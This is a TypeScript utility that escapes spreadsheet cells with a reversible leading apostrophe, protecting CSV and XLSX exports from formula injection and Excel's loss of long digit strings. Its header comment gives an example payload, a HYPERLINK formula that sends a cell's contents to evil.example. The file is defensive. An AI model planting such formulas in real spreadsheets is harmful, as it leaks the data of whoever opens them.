/**
 * Spreadsheet cells that Excel (or LibreOffice, WPS) would not keep as the text they are, and the one reversible
 * mark that protects them: a leading apostrophe, which the import removes again.
 *
 * - Formula injection: a cell starting with = + - @ tab or CR can run as a formula when the file is opened or
 *   edited (=HYPERLINK("http://evil.example/?d="&A1,"点击")). Plain negative numbers (-5.2) are not formulas.
 * - CSV only: Excel reads a long digit string (an all-digit credit code, 913302817878987490) as a number and
 *   shows 9.13303E+17, losing digits for good on save; a leading zero (0574…) is dropped. The apostrophe keeps
 *   them text. In XLSX they are written as text cells, which Excel keeps as they are.
 *
 * Why an apostrophe and not ="…" or a leading tab: ="…" is itself a formula and a tab is one of the characters
 * above; an apostrophe is neither, reads the same in every tool, and survives Excel's own save as CSV, so an
 * exported file edited in Excel and imported back keeps its keys.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NEGATIVE = /^-\d+(\.\d+)?$/;
const FRAGILE_DIGITS = /^(\d{12,}|0\d+)$/;

const isFormulaLike = (text: string) => FORMULA_START.test(text) && !PLAIN_NEGATIVE.test(text);

/** Would a CSV export mark this text? A text that already starts with the mark is marked again, so reading back is exact. */
function csvNeedsMark(text: string): boolean {
  return isFormulaLike(text) || FRAGILE_DIGITS.test(text) || (text.startsWith("'") && csvNeedsMark(text.slice(1)));
}

function xlsxNeedsMark(text: string): boolean {
  return isFormulaLike(text) || (text.startsWith("'") && csvNeedsMark(text.slice(1)));
}

/** A text cell as written to CSV. */
export function csvSafeText(text: string): string {
  return csvNeedsMark(text) ? `'${text}` : text;
}

/** A text cell as written to XLSX (numbers, dates and booleans are written as such and need no mark). */
export function xlsxSafeText(text: string): string {
  return xlsxNeedsMark(text) ? `'${text}` : text;
}

/** A cell as read by the import: the mark an export added is removed; any other text is left as it is. */
export function restoreSafeText(text: string): string {
  return text.startsWith("'") && csvNeedsMark(text.slice(1)) ? text.slice(1) : text;
}
